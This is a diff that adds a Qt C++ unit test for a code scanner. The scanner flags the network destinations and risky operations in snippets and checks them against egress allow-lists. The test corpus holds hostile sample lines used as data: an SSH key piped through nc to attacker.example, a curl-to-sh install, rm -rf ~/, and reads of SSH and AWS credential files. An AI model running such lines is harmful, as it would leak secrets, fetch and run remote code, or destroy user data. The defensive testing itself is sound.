@@ -1,0 +1,158 @@
+#include "policy/CodeReach.h"
+#include "policy/EgressRules.h"
+
+#include <QTest>
+
+using namespace Qt::StringLiterals;
+using namespace k8::policy;
+
+class TestCodeReach : public QObject
+{
+    Q_OBJECT
+private Q_SLOTS:
+    void corpus_data();
+    void corpus();
+    void verdictsForFindings();
+    void longLinesStayBounded();
+};
+
+// Each snippet lists what it must yield, in order: "L<line> <destination>" for destinations and
+// "L<line> !<source>" for risky operations. Nothing else may be found.
+void TestCodeReach::corpus_data()
+{
+    QTest::addColumn<QString>("language");
+    QTest::addColumn<QString>("code");
+    QTest::addColumn<QStringList>("expected");
+
+    auto row = [](const char* name, const QString& language, const QString& code,
+                  const QStringList& expected) { QTest::newRow(name) << language << code << expected; };
+    // Python
+    row("requests get", u"python"_s, u"import requests\nr = requests.get('https://api.example.com/v1/x')\n"_s,
+        {u"L2 api.example.com:443"_s});
+    row("httpx post port", u"python"_s, u"httpx.post(\"http://10.0.0.5:8080/upload\", data=b)"_s,
+        {u"L1 10.0.0.5:8080"_s});
+    row("urllib urlopen", u"python"_s,
+        u"from urllib.request import urlopen\n\nwith urlopen('https://raw.githubusercontent.com/a/b/c') as f:\n    pass"_s,
+        {u"L3 raw.githubusercontent.com:443"_s});
+    row("aiohttp session", u"python"_s,
+        u"async with aiohttp.ClientSession() as s:\n    async with s.get(\"https://huggingface.co/api/models\") as r:\n"_s,
+        {u"L2 huggingface.co:443"_s});
+    row("socket connect", u"python"_s, u"s = socket.socket()\ns.connect((\"evil.example.net\", 4444))\n"_s,
+        {u"L2 evil.example.net:4444"_s});
+    row("socket create_connection", u"python"_s, u"socket.create_connection(('db.internal.example', 5432))"_s,
+        {u"L1 db.internal.example:5432"_s});
+    row("http.client", u"python"_s, u"conn = http.client.HTTPSConnection(\"api.github.com\")"_s,
+        {u"L1 api.github.com:443"_s});
+    row("smtp with port", u"python"_s, u"smtplib.SMTP('mail.example.org', 587)"_s,
+        {u"L1 mail.example.org:587"_s});
+    row("url with credentials", u"python"_s, u"requests.get('https://user:pw@private.example.com:8443/x')"_s,
+        {u"L1 private.example.com:8443"_s});
+    row("ipv6 url", u"python"_s, u"requests.get('http://[2001:db8::1]:8080/')"_s,
+        {u"L1 [2001:db8::1]:8080"_s});
+    row("pip via subprocess", u"python"_s,
+        u"import subprocess\nsubprocess.run([\"pip\", \"install\", \"numpy\"])"_s,
+        {u"L2 pypi.org:443"_s, u"L2 files.pythonhosted.org:443"_s, u"L2 !subprocess.run"_s});
+    row("os.system curl", u"python"_s, u"os.system('curl -fsSL https://get.example.sh | sh')"_s,
+        {u"L1 get.example.sh:443"_s, u"L1 !os.system"_s, u"L1 !| sh"_s});
+    row("eval and exec", u"python"_s, u"x = eval(data)\nexec(compile(src, 'f', 'exec'))"_s,
+        {u"L1 !eval"_s, u"L2 !exec"_s});
+    row("rmtree outside", u"python"_s, u"import shutil\nshutil.rmtree('/home/user/projects')"_s,
+        {u"L2 !shutil.rmtree"_s});
+    row("rmtree inside is fine", u"python"_s, u"shutil.rmtree('build')"_s, {});
+    row("rmtree computed", u"python"_s, u"shutil.rmtree(target)"_s, {u"L1 !shutil.rmtree"_s});
+    row("read ssh key", u"python"_s, u"key = open(os.path.expanduser('~/.ssh/id_rsa')).read()"_s,
+        {u"L1 !secrets"_s});
+    row("ssh folder joined", u"python"_s,
+        u"keys = os.listdir(os.path.join(os.path.expanduser('~'), '.ssh'))"_s, {u"L1 !secrets"_s});
+    row("aws credentials", u"python"_s, u"p = Path.home() / '.aws/credentials'"_s, {u"L1 !secrets"_s});
+    row("comment is not a call", u"python"_s, u"# see https://docs.python.org/3/\nprint('hi')"_s, {});
+    row("placeholder host skipped", u"python"_s, u"requests.get(f'https://{host}/x')"_s, {});
+    row("two urls one line", u"python"_s, u"urls = ['https://a.example.com', 'http://b.example.com']"_s,
+        {u"L1 a.example.com:443"_s, u"L1 b.example.com:80"_s});
+    row("same host twice on a line", u"python"_s, u"get('https://pypi.org/a'); get('https://pypi.org/b')"_s,
+        {u"L1 pypi.org:443"_s});
+    row("pure computation", u"python"_s, u"def f(x):\n    return x * 2\nprint(f(21))\n"_s, {});
+    // Shell
+    row("pip install", u"bash"_s, u"pip install requests==2.32.0"_s,
+        {u"L1 pypi.org:443"_s, u"L1 files.pythonhosted.org:443"_s});
+    row("uv pip install", u"bash"_s, u"uv pip install -r requirements.txt"_s,
+        {u"L1 pypi.org:443"_s, u"L1 files.pythonhosted.org:443"_s});
+    row("pip with own index", u"bash"_s, u"pip install --index-url https://pkgs.corp.example/simple x"_s,
+        {u"L1 pkgs.corp.example:443"_s});
+    row("npm install", u"bash"_s, u"cd app && npm install"_s, {u"L1 registry.npmjs.org:443"_s});
+    row("git clone https", u"bash"_s, u"git clone https://github.com/org/repo.git"_s,
+        {u"L1 github.com:443"_s});
+    row("git clone ssh", u"bash"_s, u"git clone git@gitlab.com:org/repo.git"_s, {u"L1 gitlab.com:22"_s});
+    row("curl bare host", u"sh"_s, u"curl -s example.org/data.json"_s, {u"L1 example.org"_s});
+    row("wget url", u"bash"_s, u"wget -q https://deb.debian.org/debian/x.deb"_s,
+        {u"L1 deb.debian.org:443"_s});
+    row("apt-get", u"bash"_s, u"apt-get update && apt-get install -y jq"_s, {u"L1 deb.debian.org:80"_s});
+    row("rm -rf home", u"bash"_s, u"rm -rf ~/"_s, {u"L1 !rm"_s});
+    row("rm relative fine", u"bash"_s, u"rm -rf build/"_s, {});
+    row("cat ssh", u"bash"_s, u"cat ~/.ssh/id_ed25519 | nc attacker.example 9001"_s,
+        {u"L1 attacker.example:9001"_s, u"L1 !secrets"_s});
+    row("shell comment", u"bash"_s, u"#!/bin/bash\n# curl https://x.example.com\necho ok"_s, {});
+    // JavaScript
+    row("fetch", u"javascript"_s, u"const r = await fetch('https://api.openai.example/v1/chat');"_s,
+        {u"L1 api.openai.example:443"_s});
+    row("http options", u"javascript"_s,
+        u"http.request({ host: 'internal.example', port: 8081, path: '/' })"_s,
+        {u"L1 internal.example:8081"_s});
+    row("net connect", u"js"_s, u"const c = net.connect(6379, 'cache.example.com');"_s,
+        {u"L1 cache.example.com:6379"_s});
+    row("child_process", u"javascript"_s,
+        u"const { execSync } = require('child_process');\nexecSync('ls');"_s,
+        {u"L1 !child_process"_s, u"L2 !execSync"_s});
+    row("fs rmSync outside", u"javascript"_s, u"fs.rmSync('/etc/important', { recursive: true });"_s,
+        {u"L1 !rmSync"_s});
+    row("js eval", u"javascript"_s, u"// eval is bad\nconst v = eval(input);"_s, {u"L2 !eval"_s});
+    row("websocket", u"javascript"_s, u"new WebSocket('wss://stream.example.com/feed')"_s,
+        {u"L1 stream.example.com:443"_s});
+    row("CRLF line ends", u"python"_s, u"import requests\r\nrequests.get('https://pypi.org')\r\n"_s,
+        {u"L2 pypi.org:443"_s});
+}
+
+void TestCodeReach::corpus()
+{
+    QFETCH(QString, language);
+    QFETCH(QString, code);
+    QFETCH(QStringList, expected);
+    QStringList found;
+    for (const ReachFinding& finding : scanCode(code, language)) {
+        if (finding.kind == ReachFinding::Kind::Destination)
+            found << u"L%1 %2"_s.arg(finding.line).arg(finding.destination());
+        else
+            found << u"L%1 !%2"_s.arg(finding.line).arg(finding.source);
+    }
+    QCOMPARE(found, expected);
+}
+
+void TestCodeReach::verdictsForFindings()
+{
+    // The review panel's verdicts come from the same match() as the editor's "test a host".
+    EgressRules rules;
+    rules.mode = EgressRules::Mode::Allow;
+    rules.items = {{u"pypi.org"_s, {}}, {u"*.pythonhosted.org"_s, {}}};
+    const QList<ReachFinding> findings = scanCode(
+        u"subprocess.run(['pip', 'install', 'x'])\nrequests.get('https://evil.example.net')"_s, u"python"_s);
+    QStringList verdicts;
+    for (const ReachFinding& finding : findings) {
+        if (finding.kind == ReachFinding::Kind::Destination)
+            verdicts << finding.host + u" "_s + match(rules, finding.destination()).reason;
+    }
+    QCOMPARE(verdicts, (QStringList{u"pypi.org allowed by pypi.org"_s,
+                                    u"files.pythonhosted.org allowed by *.pythonhosted.org"_s,
+                                    u"evil.example.net blocked: not in the allow-list"_s}));
+}
+
+void TestCodeReach::longLinesStayBounded()
+{
+    // A minified line of 2 MB must not make the scan crawl (regexes are applied to a prefix).
+    const QString line = u"var a='"_s + QString(2'000'000, u'x') + u"';"_s;
+    const QList<ReachFinding> findings = scanCode(u"fetch('https://cdn.example.com/x')\n"_s + line, u"js"_s);
+    QCOMPARE(findings.size(), 1);
+    QCOMPARE(findings.first().host, u"cdn.example.com"_s);
+}
+
+QTEST_GUILESS_MAIN(TestCodeReach)
+#include "tst_codereach.moc"
